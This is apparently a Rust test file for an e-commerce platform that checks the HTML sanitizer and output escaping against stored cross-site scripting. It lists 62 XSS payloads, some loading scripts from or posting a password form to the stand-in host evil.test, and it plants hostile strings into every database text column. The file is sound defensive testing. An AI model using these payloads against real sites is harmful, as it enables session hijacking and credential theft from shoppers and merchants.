//! Threat D1: text that a merchant or a shopper wrote never becomes markup
//! that runs. HTML of merchants is cleaned when it is saved; every other text
//! is printed as text, wherever it is shown and to whomever.

use std::collections::BTreeSet;

use scraper::Html;
use smartseller::commerce::catalog::rules::clean_html;
use smartseller::web::routes::Surface;
use tokio_postgres::error::SqlState;
use uuid::Uuid;

use super::routes;
use crate::storefront::{returns, reviews, sale, single, small};
use crate::support::client::Client;
use crate::support::{Reply, Role, World, cluster, sale as shelf};

/// HTML that tries to run, load, look like ours or break out.
const PAYLOADS: [&str; 62] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT >",
    "<script\n>alert(1)</script\t>",
    "<script/x>alert(1)</script>",
    "<p><script>/*</p>*/alert(1)",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror\n=\n\"alert(1)\">",
    "<p onclick=alert(1)>x</p>",
    "<p ONMOUSEOVER=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"blob:https://kopi.localhost/x\">x</a>",
    "<a href=\"view-source:x\" target=_blank rel=opener ping=//evil.test/>x</a>",
    "<a href=https://a.test onclick=alert(1) style=color:red id=x class=button download>x</a>",
    "<p style=\"background:url(//evil.test/a)\">x</p>",
    "<style>@import '//evil.test/x.css';</style>",
    "<p>x<style><img src=\"</style><img src=x onerror=alert(1)>\"></p>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<div class=checkout-button id=buy>x</div>",
    "<div hx-get=//evil.test/ hx-trigger=load>x</div>",
    "<div data-hx-get=/cart data-hx-trigger=load>x</div>",
    "<div hx-on::load=alert(1) hx-on:click=alert(1) data-hx-on--load=alert(1)>x</div>",
    "<div hx-get=/cart hx-vals='js:{a:alert(1)}' hx-headers='js:{a:alert(1)}'>x</div>",
    "<span data-add data-show=0 data-by=1>x</span>",
    "<iframe src=//evil.test/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.test/x.swf></object><embed src=//evil.test/x>",
    "<form action=//evil.test/><input name=password><button>Pay</button></form>",
    "<p><button formaction=javascript:alert(1)>x</button></p>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.test/\">",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<a id=attributes name=cookie>x</a><img name=body><form id=forms name=currentScript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<p>x<!-- <script>alert(1)</script> --></p>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<table><td background=//evil.test/a><a title='\"><img src=x onerror=alert(1)>'>x</table>",
    "</div></main><p title=\"</p><script>alert(1)</script>\"><video src=x onerror=alert(1)><marquee onstart=alert(1)>",
];

const TAGS: [&str; 29] = [
    "p",
    "br",
    "b",
    "strong",
    "i",
    "em",
    "u",
    "s",
    "h2",
    "h3",
    "h4",
    "ul",
    "ol",
    "li",
    "a",
    "blockquote",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "hr",
    "sub",
    "sup",
    "code",
    "pre",
    "div",
    "span",
];

/// What of the HTML a browser would find that nobody allowed.
fn forbidden(html: &str) -> Vec<String> {
    // In the place where it is shown, and read by a parser of its own.
    let page = Html::parse_document(&format!("<!doctype html><body><main>{html}</main>"));
    let mut found = Vec::new();
    for node in page.tree.nodes() {
        if node.value().is_comment() {
            found.push(format!("{:?}", node.value()));
        }
        let Some(element) = node.value().as_element() else { continue };
        let ours = ["html", "head", "body", "main"].contains(&element.name()) && element.attrs().next().is_none();
        if !ours && !TAGS.contains(&element.name()) {
            found.push(format!("<{}>", element.name()));
        }
        for (name, value) in element.attrs() {
            let allowed = match (element.name(), name) {
                ("a", "href") => leads_out(value),
                ("a", "rel") => value == "noopener nofollow",
                ("a", "title") => true,
                _ => false,
            };
            if !allowed {
                found.push(format!("<{} {name}={value:?}>", element.name()));
            }
        }
    }
    found
}

/// Whether the address has one of four schemes, the way a browser reads it, or none.
fn leads_out(address: &str) -> bool {
    let read: String = address.chars().filter(|letter| !letter.is_whitespace() && !letter.is_control()).collect();
    let before_path = read.split(['/', '?', '#']).next().unwrap_or_default();
    before_path.split_once(':').is_none_or(|(scheme, _)| ["https", "http", "mailto", "tel"].contains(&scheme.to_lowercase().as_str()))
}

#[test]
fn what_a_merchant_writes_keeps_its_form_and_nothing_that_runs() {
    for payload in PAYLOADS {
        let cleaned = clean_html(payload);
        assert_eq!(forbidden(&cleaned), [""; 0], "{payload}\n  became {cleaned}");
        // Text without a tag becomes a paragraph, which it was not the first time.
        if cleaned.contains('<') {
            assert_eq!(clean_html(&cleaned), cleaned, "{payload} is read differently the second time");
        }
    }
    // A check that finds nothing in them would find nothing in what was cleaned.
    let blind: Vec<&str> = PAYLOADS.into_iter().filter(|payload| forbidden(payload).is_empty()).collect();
    assert_eq!(blind, [""; 0]);
    let kept = "<h2>Gayo</h2><p>From <a href=\"https://a.test/?q=1\" rel=\"noopener nofollow\"><b>Aceh</b></a><br></p><ul><li>250&nbsp;g</li></ul>";
    assert_eq!(clean_html(kept), kept);
}

/// What is planted behind the content of a column.
fn hostile(place: &str) -> String {
    format!(" \"'><script src=//evil.test/{place}></script><img src=x onerror=alert(1)>{{{{7*7}}}}")
}

/// Endings of columns that nothing is planted in, and why.
const LEFT_OUT: [(&str, &str); 9] = [
    ("products.description_html", "HTML on purpose, cleaned when it is saved"),
    ("pages.body_html", "HTML on purpose, cleaned when it is saved"),
    (".slug", "what a page is found by: another one would only be missing"),
    ("settings.section", "what the program finds its settings by"),
    ("counters.name", "what the program finds its counters by"),
    (".currency", "a code that nobody types"),
    (".locale", "a code that nobody types"),
    ("payments.provider", "a word of the program's that nobody types"),
    ("order_events.kind", "a word of the program's that nobody types"),
];

/// Names that hold what somebody typed, in columns of JSON.
const TYPED: &str = "name|title|summary|description|seo_title|en|seo_description|line1|line2|district|village|city|region|company|phone|note|\
                     bank|holder|number|instructions|label|heading|text|tagline|message|address|legal_name|footer|body|reason|hours|variant";

/// Writes hostile text into every column of kopi that takes it, and returns the columns.
async fn plant(world: &World) -> BTreeSet<String> {
    let client = cluster::connect(&world.database).await;
    let schema = world.schema("kopi").await;
    let columns = client
        .query(
            "SELECT c.table_name, c.column_name, c.udt_name FROM information_schema.columns c
             JOIN information_schema.tables t USING (table_schema, table_name)
             WHERE c.table_schema = $1 AND t.table_type = 'BASE TABLE' AND c.udt_name IN ('text', '_text', 'jsonb') AND c.is_generated = 'NEVER'
             ORDER BY 1, 2",
            &[&schema],
        )
        .await
        .expect("the catalogue can be read");
    let mut planted = BTreeSet::new();
    for row in columns {
        let (table, column, kind): (String, String, String) = (row.get(0), row.get(1), row.get(2));
        let place = format!("{table}.{column}");
        if LEFT_OUT.iter().any(|(left_out, _)| place.ends_with(left_out)) {
            continue;
        }
        let text = hostile(&place).replace('\'', "''");
        let value = match kind.as_str() {
            "text" => format!("\"{column}\" || '{text}'"),
            "_text" => format!("ARRAY(SELECT one || '{text}' FROM unnest(\"{column}\") one)"),
            _ => {
                let text = text.replace('"', "\\\\\"");
                format!("regexp_replace(\"{column}\"::text, '(\"({TYPED})\": \"([^\"\\\\]|\\\\.)*)\"', '\\1{text}\"', 'g')::jsonb")
            }
        };
        // A column with a CHECK or a unique use of its own keeps its values.
        let sql = format!("UPDATE {schema}.\"{table}\" SET \"{column}\" = {value} WHERE \"{column}\" IS DISTINCT FROM {value}");
        match client.execute(&sql, &[]).await {
            Ok(rows) if rows > 0 => drop(planted.insert(place)),
            Ok(_) => {}
            Err(error) => assert_eq!(error.code(), Some(&SqlState::CHECK_VIOLATION), "{place}: {error:?}"),
        }
    }
    planted
}

const SETTINGS: [&str; 9] = [
    "/admin/settings",
    "/admin/settings/checkout",
    "/admin/settings/payments",
    "/admin/settings/delivery",
    "/admin/settings/delivery/zones/new",
    "/admin/settings/taxes",
    "/admin/settings/documents",
    "/admin/settings/aftersale",
    "/admin/settings/notifications",
];

/// Kopi after a busy week: something stands wherever texts are shown. Gives
/// the path of a guest's order.
async fn busy(world: &World, owner: &Client, customer: &Client) -> String {
    let (guest, order, _) = returns::arrived(world, "kopi", &small(world, "kopi"), "2").await;
    reviews::say(world, &guest, &order, &[], &[]).await;
    returns::ask(&guest, &order, "1", &[("note", "Sobek")]).await.is(303);
    let message = [("name", "Sari"), ("email", "sari@example.com"), ("topic", "order"), ("body", "Kapan pesanan saya dikirim?")];
    guest.post("/contact", &message).await.is(303);
    shelf::buy(customer, &small(world, "kopi"), "bank_transfer").await;
    shelf::add(customer, &single(world, "kopi"), "1").await;
    customer.post("/account/wishlist", &[("variant_id", &single(world, "kopi"))]).await;
    sale(world, &single(world, "kopi"), 60_000, (-60, 60), ("NULL", "NULL")).await;
    for page in SETTINGS {
        owner.submit(page, "form[data-dirty]", &[]).await;
    }
    let design = owner.get("/admin/design").await.is(200).form("form[data-dirty]");
    let design: Vec<(&str, &str)> =
        design.iter().filter(|field| field.0 != "csrf").map(|(name, value)| (name.as_str(), value.as_str())).collect();
    owner.upload("/admin/design", &design, &[]).await;
    let page =
        [("title", "Tentang kami"), ("body", "<p>Sejak 1998.</p>"), ("published", "1"), ("kind", "page"), ("t.en.title", "About us")];
    owner.post("/admin/content/pages", &page).await.is(303);
    let menu =
        [("header.0.at", "1"), ("header.0.label.id", "Kopi pilihan"), ("header.0.label.en", "Our best"), ("header.0.to", "/c/utama")];
    owner.post("/admin/content/menus", &menu).await;
    world
        .tenant_rows(
            "kopi",
            "UPDATE reviews SET status = 'published', published_at = now(), reply = 'Terima kasih';
             INSERT INTO discounts (id, name, kind, value, state) VALUES (gen_random_uuid(), 'Hemat', 'percentage', 1000, 'active');
             INSERT INTO redirects (path, target) VALUES ('/lama', '/c/utama')",
        )
        .await;
    order
}

/// Addresses of what [`busy`] made: what the route table fills in, and what stands there.
async fn addresses(world: &World, order: &str) -> Vec<(String, String)> {
    let nobody = Uuid::nil();
    let mut known = vec![
        ("/orders/nothing/review/nothing".to_owned(), format!("{order}/review/{}", world.seeded("kopi").id(102))),
        ("/orders/nothing".to_owned(), order.to_owned()),
        ("/pages/nothing".to_owned(), "/pages/tentang-kami".to_owned()),
        ("/notifications/nothing".to_owned(), "/notifications/order_placed".to_owned()),
        ("/example/nothing".to_owned(), "/example/id".to_owned()),
    ];
    for (path, rows) in [
        ("/admin/orders/", "orders ORDER BY number"),
        ("/account/orders/", "orders WHERE customer_id IS NOT NULL"),
        ("/account/addresses/", "customer_addresses"),
        ("/admin/reviews/", "reviews"),
        ("/admin/returns/", "returns"),
        ("/admin/discounts/", "discounts"),
        ("/admin/flash-sales/", "flash_sales"),
        ("/admin/content/pages/", "pages"),
        ("/documents/", "documents"),
    ] {
        let rows = world.tenant_rows("kopi", &format!("SELECT id FROM {rows} LIMIT 1")).await;
        let id = rows.into_iter().flatten().next().unwrap_or_else(|| panic!("nothing is at {path}"));
        known.push((format!("{path}{nobody}"), format!("{path}{id}")));
        known.push((format!("{path}nothing"), format!("{path}{id}")));
    }
    known
}

/// What was seen of planted texts.
#[derive(Default)]
struct Seen {
    /// Columns whose text stood somewhere as text.
    columns: BTreeSet<String>,
    wrong: Vec<String>,
}

impl Seen {
    fn look(&mut self, reply: &Reply) {
        if reply.status.as_u16() >= 500 {
            self.wrong.push(format!("{}: {}", reply.request, reply.status));
        }
        let kind = reply.header("content-type");
        if kind.contains("html") || kind.contains("xml") {
            self.read(&reply.request, &reply.text);
        }
    }

    fn read(&mut self, request: &str, html: &str) {
        for raw in ["<script src=//evil.test", "<img src=x onerror", "alert(1)&#62;49", "alert(1)>49"] {
            if let Some(at) = html.find(raw) {
                self.wrong.push(format!("{request}: {}", html[at..].chars().take(120).collect::<String>()));
            }
        }
        for element in Html::parse_document(html).root_element().descendants().filter_map(|node| node.value().as_element()) {
            for (name, value) in element.attrs() {
                // Also where no tag was made of it: a value without quotes ends at its first space.
                let loads = ["src", "href", "action", "data"].contains(&name) && value.trim_start().starts_with("//evil.test");
                if name.starts_with("on") || name.contains(['"', '\'', '<']) || loads {
                    self.wrong.push(format!("{request}: <{} {name}={value:?}>", element.name()));
                }
            }
        }
        let places = html
            .split("//evil.test/")
            .skip(1)
            .filter_map(|rest| rest.split(|letter: char| !letter.is_ascii_lowercase() && !"._".contains(letter)).next());
        self.columns.extend(places.map(str::to_owned));
    }
}

#[actix_web::test]
async fn text_is_printed_as_text_wherever_it_is_shown() {
    let world = World::start().await;
    let owner = world.staff("kopi", Role::Owner).await;
    let customer = world.customer("kopi").await;
    let order = busy(&world, &owner, &customer).await;
    let planted = plant(&world).await;
    let options = "UPDATE products SET options = jsonb_build_array(options->0 || jsonb_build_object('values',
        (SELECT jsonb_agg(option_values[1] ORDER BY position) FROM variants WHERE product_id = products.id))) WHERE slug = 'choice'";
    world.tenant_rows("kopi", options).await;
    // Written past the program, which therefore would go on showing what it kept.
    world.app.db.changes().note_everything();
    let known = addresses(&world, &order).await;
    let shopper = world.shopper("kopi");
    let mut seen = Seen::default();

    let elsewhere = ["/search?q=", "/admin/products?q=", "/admin/orders?q=", "/admin/customers?q="];
    let asked = serde_urlencoded::to_string([("", hostile("asked"))]).expect("text can be encoded");
    let typed = elsewhere.map(|path| format!("{}{}", path.trim_end_matches('='), asked));
    let walk = routes::all().into_iter().filter(|route| !routes::is_unsafe(route) && route.surface != Surface::Platform);
    let walk = walk.map(|route| {
        let path = routes::path(route, &world);
        known.iter().find(|(filled, _)| path.contains(filled)).map_or(path.clone(), |(filled, real)| path.replace(filled, real))
    });
    for path in walk.chain(typed).collect::<Vec<_>>() {
        for person in [&owner, &customer, &shopper] {
            seen.look(&person.get(&path).await);
            seen.look(&person.fragment(&path).await);
        }
        if !path.starts_with("/admin") {
            seen.look(&shopper.get(&format!("/en{path}")).await);
        }
    }
    shelf::buy(&shopper, &small(&world, "kopi"), "bank_transfer").await;
    for letter in world.mails().await {
        seen.read(&format!("the letter {:?} to {}", letter.subject, letter.to), &letter.html);
    }
    let operator = world.operator().await;
    for path in ["/platform", "/platform/tenants", "/platform/tenants/kopi", "/platform/jobs", "/dev/mailbox"] {
        seen.look(&operator.get(path).await);
    }

    assert!(seen.wrong.is_empty(), "{}", seen.wrong.join("\n"));
    let shown = planted.intersection(&seen.columns).count();
    assert!(shown >= 50, "of {planted:?}\nonly {:?} were seen", seen.columns);
}
